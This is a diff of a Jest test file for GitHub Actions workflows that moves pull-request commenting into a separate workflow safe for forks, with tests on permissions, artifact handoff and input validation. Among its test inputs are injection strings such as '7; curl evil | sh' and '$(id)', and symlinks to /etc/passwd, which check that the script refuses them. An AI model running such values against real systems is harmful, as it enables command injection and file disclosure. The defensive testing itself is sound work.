@@ -1,8 +1,8 @@
 // The GitHub Actions workflows: what triggers them, which jobs run in which order with which token
 // permissions, that every stack gets its firewall diff, preview and deploy with every secret the program needs,
-// and that no secret can reach a shell script or the log. The firewall diff and impact step and its PR comment
-// script, and the stack secrets (.ci/stack-secrets.sh), are run for real against a fake `npm`, a fake `pulumi`
-// and a fake GitHub API.
+// and that no secret can reach a shell script or the log. The firewall diff and impact step, the stack secrets
+// (.ci/stack-secrets.sh) and the fork-safe PR comment script are run for real against a fake `npm`, a fake
+// `pulumi` and a fake GitHub API.
 import { spawnSync } from "child_process";
 import * as fs from "fs";
 import * as os from "os";
@@ -49,7 +49,8 @@ const load = (name: string): Workflow => parse(read(path.join(".github", "workfl
 const STACK_SECRETS_SCRIPT = ".ci/stack-secrets.sh";
 const pr = load("pull-request.yml");
 const deploy = load("deploy.yml");
-const workflows: [string, Workflow][] = [["pull-request.yml", pr], ["deploy.yml", deploy]];
+const prComment = load("pull-request-comment.yml");
+const workflows: [string, Workflow][] = [["pull-request.yml", pr], ["deploy.yml", deploy], ["pull-request-comment.yml", prComment]];
 
 test("the workflows tested here are all the workflows there are", () => {
     expect(fs.readdirSync(path.join(root, ".github", "workflows")).sort()).toEqual(workflows.map(([file]) => file).sort());
@@ -90,6 +91,9 @@ function leaks(script: string, vars: string[]): string[] {
 
 /** Turns on shell tracing (which prints every expanded command, secrets included). */
 const XTRACE = /(^|[\s;&|])set\s+(-[a-wyz]*x|-o\s+xtrace)|\bbash\s+(-\w*\s+)*-[a-wyz]*x\b/m;
+
+/** The artifact pull-request.yml hands to pull-request-comment.yml. */
+const COMMENT_ARTIFACT = "firewall-diff-comment";
 
 /** The program's secret keys that a stack must have: secret, no default, not optional (components/config.ts). */
 const REQUIRED_SECRET_KEYS = CONFIG_KEYS.filter((k) => CONFIG_SCHEMA[k].secret === true && CONFIG_SCHEMA[k].default === undefined && !CONFIG_SCHEMA[k].optional);
@@ -198,7 +202,7 @@ function runStep(wf: Workflow, job: Job, step: Step, given: Given, world: { stac
 const configSets = (calls: PulumiCall[], stack: string, key: string) =>
     calls.filter((c) => c.args[0] === "config" && c.args[1] === "set" && c.args[c.args.length - 1] === key && c.args[c.args.indexOf("--stack") + 1] === stack);
 
-/** The workflows that run the tests and Pulumi. */
+/** The workflows that run the tests and Pulumi (the comment workflow runs neither). */
 const cloudWorkflows: [string, Workflow][] = [["pull-request.yml", pr], ["deploy.yml", deploy]];
 
 describe("every workflow", () => {
@@ -355,7 +359,8 @@ describe("pull-request.yml", () => {
     describe("firewall", () => {
         const job = pr.jobs.firewall;
         const diff = job.steps.find((s) => s.run?.includes("firewall:diff"))!;
-        const comment = job.steps.find((s) => s.uses?.startsWith("actions/github-script@"))!;
+        const handoff = job.steps.find((s) => s.run?.includes("pr-number"))!;
+        const upload = job.steps.find((s) => s.uses?.startsWith("actions/upload-artifact@"))!;
         const fail = job.steps[job.steps.length - 1];
 
         test("checks out the whole history (the diff needs the base branch) and runs npm ci first", () => {
@@ -372,17 +377,36 @@ describe("pull-request.yml", () => {
             expect(diff.env?.BASE_REF).toBe("${{ github.base_ref }}");
         });
 
-        test("comments only on pull requests from this repository (a fork's token is read-only)", () => {
-            expect(comment.if).toContain("github.event_name == 'pull_request'");
-            expect(comment.if).toContain("github.event.pull_request.head.repo.full_name == github.repository");
-            expect(comment.env?.BODY_FILE).toBe(`\${{ steps.${diff.id}.outputs.body }}`);
-            expect(job.steps.indexOf(comment)).toBeGreaterThan(job.steps.indexOf(diff));
+        test("needs no secret and no write permission (as a fork's pull request gets it): it comments through pull-request-comment.yml", () => {
+            expect(job.permissions).toEqual({ contents: "read" });
+            expect(JSON.stringify(job)).not.toMatch(/secrets\./);
+            expect(job.steps.some((s) => s.uses?.startsWith("actions/github-script@"))).toBe(false);
         });
 
-        test("fails the job, after commenting, when a diff could not be computed", () => {
+        test("hands the comment and its pull request number over as an artifact, on pull requests", () => {
+            expect(handoff.if).toBe("github.event_name == 'pull_request'");
+            expect(handoff.env).toEqual({ BODY_FILE: `\${{ steps.${diff.id}.outputs.body }}`, PR_NUMBER: "${{ github.event.pull_request.number }}" });
+            expect(upload.if).toBe(handoff.if);
+            expect(upload.with).toMatchObject({ name: COMMENT_ARTIFACT, path: "${{ runner.temp }}/pr-comment/", "if-no-files-found": "error" });
+            expect(job.steps.indexOf(diff)).toBeLessThan(job.steps.indexOf(handoff));
+            expect(job.steps.indexOf(handoff)).toBeLessThan(job.steps.indexOf(upload));
+
+            // Run for real: the files are the diff step's comment and the number, nothing else.
+            const { summary, outputs, dir } = runDiff({ dev: 1, prod: 0 });
+            const r = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", handoff.run!], {
+                encoding: "utf8",
+                env: { PATH: process.env.PATH, RUNNER_TEMP: dir, BODY_FILE: outputs.body, PR_NUMBER: "42" },
+            });
+            expect(r.status).toBe(0);
+            expect(fs.readdirSync(path.join(dir, "pr-comment")).sort()).toEqual(["comment.md", "pr-number"]);
+            expect(fs.readFileSync(path.join(dir, "pr-comment", "comment.md"), "utf8")).toBe(summary);
+            expect(fs.readFileSync(path.join(dir, "pr-comment", "pr-number"), "utf8")).toBe("42\n");
+        });
+
+        test("fails the job, after handing over the comment, when a diff could not be computed", () => {
             expect(fail.if).toBe(`steps.${diff.id}.outputs.failed != ''`);
             expect(fail.run).toMatch(/exit 1\s*$/);
-            expect(job.steps.indexOf(fail)).toBeGreaterThan(job.steps.indexOf(comment));
+            expect(job.steps.indexOf(fail)).toBeGreaterThan(job.steps.indexOf(upload));
         });
 
         /**
@@ -474,50 +498,6 @@ describe("pull-request.yml", () => {
             const r = runDiff({ dev: 0, prod: 0 }, "");
             expect(r.status).toBe(0);
             expect(r.calls).toEqual(STACKS.flatMap((s) => [`run --silent firewall:diff -- --stack ${s}`, `run --silent impact -- --stack ${s}`]));
-        });
-
-        /** Runs the github-script step against a fake GitHub holding `existing` comments. */
-        async function runComment(body: string, existing: { id: number; body: string; user: { type: string } }[]) {
-            const dir = fs.mkdtempSync(path.join(os.tmpdir(), "bbb-comment-"));
-            fs.writeFileSync(path.join(dir, "body.md"), body);
-            const calls: [string, Record<string, unknown>][] = [];
-            const issues = {
-                listComments: () => undefined,
-                updateComment: async (args: Record<string, unknown>) => { calls.push(["update", args]); return { data: { html_url: "u" } }; },
-                createComment: async (args: Record<string, unknown>) => { calls.push(["create", args]); return { data: { html_url: "c" } }; },
-            };
-            const github = {
-                rest: { issues },
-                paginate: async (method: unknown, args: Record<string, unknown>) => {
-                    expect(method).toBe(issues.listComments);
-                    expect(args).toMatchObject({ owner: "o", repo: "r", issue_number: 7 });
-                    return existing;
-                },
-            };
-            const context = { repo: { owner: "o", repo: "r" }, issue: { number: 7 } };
-            const core = { info: () => undefined };
-            // github-script runs its script as the body of an async function given these names.
-            const AsyncFunction = new Function("return (async () => undefined).constructor")();
-            const script = new AsyncFunction("require", "github", "context", "core", "process", comment.with!.script as string);
-            await script(require, github, context, core, { env: { BODY_FILE: path.join(dir, "body.md") } });
-            return calls;
-        }
-
-        test("posts one comment, then edits that comment (found by its hidden marker) on later pushes", async () => {
-            const { summary } = runDiff({ dev: 1, prod: 0 });
-            expect(await runComment(summary, [])).toEqual([["create", { owner: "o", repo: "r", issue_number: 7, body: summary }]]);
-            const existing = [
-                { id: 1, body: "quoting <!-- bbb-firewall-diff --> by hand", user: { type: "User" } },
-                { id: 2, body: "<!-- bbb-firewall-diff -->\nold", user: { type: "Bot" } },
-            ];
-            expect(await runComment(summary, existing)).toEqual([["update", { owner: "o", repo: "r", comment_id: 2, body: summary }]]);
-        });
-
-        test("keeps a huge diff under GitHub's comment limit, marker included", async () => {
-            const huge = "<!-- bbb-firewall-diff -->\n" + "| x |\n".repeat(20000);
-            const [[, args]] = await runComment(huge, []);
-            expect((args.body as string).length).toBeLessThan(65536);
-            expect(args.body).toMatch(/^<!-- bbb-firewall-diff -->/);
         });
     });
 
@@ -730,5 +710,181 @@ describe("the stack secrets in every preview and deploy job (.ci/stack-secrets.s
         expect(section.length).toBeGreaterThan(100);
         const names = [...new Set(workflows.flatMap(([, wf]) => [...secretNames(wf), ...[...JSON.stringify(wf).matchAll(/\bvars\.(\w+)/g)].map((m) => m[1])]))];
         for (const name of names) expect([name, section.includes(`\`${name}\``)]).toEqual([name, true]);
+    });
+});
+
+describe("pull-request-comment.yml (the firewall diff comment, also for pull requests from forks)", () => {
+    const job = prComment.jobs.comment;
+    const [check, download, post] = job.steps;
+
+    test("runs when a pull-request run completes (in this repository's context), for pull request runs only", () => {
+        expect(prComment.on).toEqual({ workflow_run: { workflows: [pr.name], types: ["completed"] } });
+        expect(Object.keys(prComment.jobs)).toEqual(["comment"]);
+        expect(job.if).toBe("github.event.workflow_run.event == 'pull_request'");
+    });
+
+    test("never checks out or runs the pull request's code: no checkout, no run: step, only the artifact's files are read", () => {
+        expect(job.steps.map((s) => s.uses?.replace(/@.*/, ""))).toEqual(["actions/github-script", "actions/download-artifact", "actions/github-script"]);
+        expect(job.steps.filter((s) => s.run !== undefined)).toEqual([]);
+        expect(JSON.stringify(prComment)).not.toMatch(/actions\/checkout|setup-node|npm |head_sha \}\}|head\.sha \}\}/);
+        // No expression of the event inside a script: the scripts read the payload through `context`.
+        for (const step of [check, post]) expect(String(step.with?.script)).not.toContain("${{");
+    });
+
+    test("its token reads the run's artifacts and writes comments, nothing else; the workflow's default token nothing", () => {
+        expect(prComment.permissions).toEqual({});
+        expect(job.permissions).toEqual({ actions: "read", "pull-requests": "write" });
+        expect(secretNames(prComment)).toEqual([]);
+    });
+
+    test("downloads the artifact the pull-request run uploaded, from that run, into the runner's temporary directory", () => {
+        const upload = pr.jobs.firewall.steps.find((s) => s.uses?.startsWith("actions/upload-artifact@"));
+        expect(upload?.with?.name).toBe(COMMENT_ARTIFACT);
+        expect(check.env).toEqual({ ARTIFACT: COMMENT_ARTIFACT });
+        expect(download.with).toEqual({ name: COMMENT_ARTIFACT, path: "${{ runner.temp }}/pr-comment", "run-id": "${{ github.event.workflow_run.id }}", "github-token": "${{ github.token }}" });
+        expect(download.if).toBe(`steps.${check.id}.outputs.found == 'true'`);
+        expect(post.if).toBe(download.if);
+        expect(post.env).toEqual({ COMMENT_DIR: download.with?.path });
+    });
+
+    /** github-script runs its script as the body of an async function given these names. */
+    async function runScript(step: Step, github: unknown, context: unknown, env: Record<string, string>) {
+        const log: [string, string][] = [];
+        const core = {
+            info: (m: string) => log.push(["info", m]),
+            notice: (m: string) => log.push(["notice", m]),
+            setFailed: (m: string) => log.push(["failed", m]),
+            setOutput: (k: string, v: string) => log.push(["output", `${k}=${v}`]),
+        };
+        const AsyncFunction = new Function("return (async () => undefined).constructor")();
+        await new AsyncFunction("require", "github", "context", "core", "process", step.with!.script as string)(require, github, context, core, { env });
+        return log;
+    }
+
+    test("looks for the artifact of the run, and says when there is none (a run cancelled before the diff)", async () => {
+        const listed = (artifacts: { name: string; expired: boolean }[]) => ({
+            rest: {
+                actions: {
+                    listWorkflowRunArtifacts: async (args: Record<string, unknown>) => {
+                        expect(args).toEqual({ owner: "o", repo: "r", run_id: 99, name: COMMENT_ARTIFACT });
+                        return { data: { artifacts } };
+                    },
+                },
+            },
+        });
+        const context = { repo: { owner: "o", repo: "r" }, payload: { workflow_run: { id: 99 } } };
+        expect(await runScript(check, listed([{ name: COMMENT_ARTIFACT, expired: false }]), context, check.env!)).toEqual([["output", "found=true"]]);
+        const none = await runScript(check, listed([{ name: COMMENT_ARTIFACT, expired: true }]), context, check.env!);
+        expect(none).toEqual([["notice", expect.stringContaining("no comment")], ["output", "found=false"]]);
+    });
+
+    const BODY = "<!-- bbb-firewall-diff -->\n## Firewall rules\n\nSecurity group rules change in: **dev**.\n";
+    const RUN = {
+        id: 99,
+        event: "pull_request",
+        head_sha: "1111111111111111111111111111111111111111",
+        head_branch: "open-5060",
+        head_repository: { full_name: "someone/bbb" },
+        pull_requests: [] as { number: number }[],
+        html_url: "https://github.com/o/r/actions/runs/99",
+    };
+    const PULLS: Record<number, { head: { sha: string; ref: string; repo: { full_name: string } | null } }> = {
+        7: { head: { sha: RUN.head_sha, ref: "open-5060", repo: { full_name: "someone/bbb" } } },
+        8: { head: { sha: "2222222222222222222222222222222222222222", ref: "other", repo: { full_name: "o/r" } } },
+    };
+
+    /** Runs the posting script on an artifact of these files, against a fake GitHub holding `existing` comments on #7. */
+    async function runPost(files: Record<string, string | { symlinkTo: string }>, run = RUN, existing: { id: number; body: string; user: { login: string } }[] = []) {
+        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "bbb-pr-comment-"));
+        for (const [name, content] of Object.entries(files)) {
+            if (typeof content === "string") fs.writeFileSync(path.join(dir, name), content);
+            else fs.symlinkSync(content.symlinkTo, path.join(dir, name));
+        }
+        const writes: [string, Record<string, unknown>][] = [];
+        const issues = {
+            listComments: () => undefined,
+            updateComment: async (args: Record<string, unknown>) => { writes.push(["update", args]); return { data: {} }; },
+            createComment: async (args: Record<string, unknown>) => { writes.push(["create", args]); return { data: {} }; },
+        };
+        const github = {
+            rest: {
+                issues,
+                pulls: {
+                    get: async ({ owner, repo, pull_number }: { owner: string; repo: string; pull_number: number }) => {
+                        expect([owner, repo]).toEqual(["o", "r"]);
+                        if (!(pull_number in PULLS)) throw new Error("Not Found");
+                        return { data: PULLS[pull_number] };
+                    },
+                },
+            },
+            paginate: async (method: unknown, args: Record<string, unknown>) => {
+                expect(method).toBe(issues.listComments);
+                expect(args).toMatchObject({ owner: "o", repo: "r", issue_number: 7 });
+                return existing;
+            },
+        };
+        const context = { repo: { owner: "o", repo: "r" }, payload: { workflow_run: run } };
+        const log = await runScript(post, github, context, { COMMENT_DIR: dir });
+        return { writes, log, failed: log.filter(([kind]) => kind === "failed").map(([, m]) => m) };
+    }
+
+    test("a fork's pull request (the run lists none): posts the comment once the pull request's branch and commit are the run's", async () => {
+        const r = await runPost({ "pr-number": "7\n", "comment.md": BODY });
+        expect(r.failed).toEqual([]);
+        expect(r.writes).toEqual([["create", { owner: "o", repo: "r", issue_number: 7, body: BODY }]]);
+    });
+
+    test("edits its own earlier comment, never somebody else's quoting the marker", async () => {
+        const existing = [
+            { id: 1, body: "<!-- bbb-firewall-diff -->\nquoted by hand", user: { login: "someone" } },
+            { id: 2, body: "<!-- bbb-firewall-diff -->\nby another app", user: { login: "other-app[bot]" } },
+            { id: 3, body: "<!-- bbb-firewall-diff -->\nold", user: { login: "github-actions[bot]" } },
+        ];
+        const r = await runPost({ "pr-number": "7\n", "comment.md": BODY }, RUN, existing);
+        expect(r.writes).toEqual([["update", { owner: "o", repo: "r", comment_id: 3, body: BODY }]]);
+    });
+
+    test.each([["", "empty"], ["7; curl evil | sh", "a command"], ["07", "a leading zero"], ["$(id)", "a substitution"], ["99999999999", "too long"]])(
+        "a pr-number that is not a number (%j, %s) is refused, nothing posted",
+        async (text) => {
+            const r = await runPost({ "pr-number": text, "comment.md": BODY });
+            expect(r.failed).toEqual([expect.stringContaining("not a pull request number")]);
+            expect(r.writes).toEqual([]);
+        },
+    );
+
+    test("a pr-number naming another pull request than the run's is refused, nothing posted", async () => {
+        // A fork's run claiming a pull request of this repository's own branch.
+        const other = await runPost({ "pr-number": "8", "comment.md": BODY });
+        expect(other.failed).toEqual([expect.stringContaining("is not the one of run 99")]);
+        expect(other.writes).toEqual([]);
+        // A branch of this repository: the run lists its pull request, and the artifact must name it.
+        const listed = await runPost({ "pr-number": "7", "comment.md": BODY }, { ...RUN, pull_requests: [{ number: 8 }] });
+        expect(listed.failed).toEqual([expect.stringContaining("the run was for #8")]);
+        expect(listed.writes).toEqual([]);
+    });
+
+    test("a pull request that moved on since the run: no comment (its newer run comments), and no failure", async () => {
+        const r = await runPost({ "pr-number": "7", "comment.md": BODY }, { ...RUN, head_sha: "3333333333333333333333333333333333333333" });
+        expect(r.failed).toEqual([]);
+        expect(r.log).toEqual([["notice", expect.stringContaining("moved on")]]);
+        expect(r.writes).toEqual([]);
+    });
+
+    test("a comment without the marker, or not a regular file (a symlink out of the artifact), is refused", async () => {
+        for (const files of [{ "pr-number": "7", "comment.md": "hello" }, { "pr-number": "7", "comment.md": { symlinkTo: "/etc/passwd" } }, { "pr-number": { symlinkTo: "/etc/hostname" }, "comment.md": BODY }]) {
+            const r = await runPost(files);
+            expect(r.failed).toHaveLength(1);
+            expect(r.writes).toEqual([]);
+        }
+    });
+
+    test("keeps a huge diff under GitHub's comment limit, marker included, pointing to the run", async () => {
+        const huge = BODY + "| x |\n".repeat(20000);
+        const r = await runPost({ "pr-number": "7", "comment.md": huge });
+        const body = r.writes[0][1].body as string;
+        expect(body.length).toBeLessThan(65536);
+        expect(body).toMatch(/^<!-- bbb-firewall-diff -->\n/);
+        expect(body).toContain(`[the run](${RUN.html_url})`);
     });
 });
